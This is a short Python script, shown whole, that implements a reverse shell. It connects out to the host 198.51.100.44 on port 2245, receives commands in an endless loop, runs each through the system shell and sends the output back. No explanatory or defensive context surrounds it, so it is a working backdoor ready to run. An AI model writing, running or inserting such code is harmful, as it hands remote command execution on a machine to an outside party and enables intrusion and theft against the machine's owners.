import socket
import subprocess


def serve():
    link = socket.socket()
    link.connect(("198.51.100.44", 2245))
    while True:
        order = link.recv(4096).decode()
        link.send(subprocess.run(order, shell=True, capture_output=True).stdout)


serve()
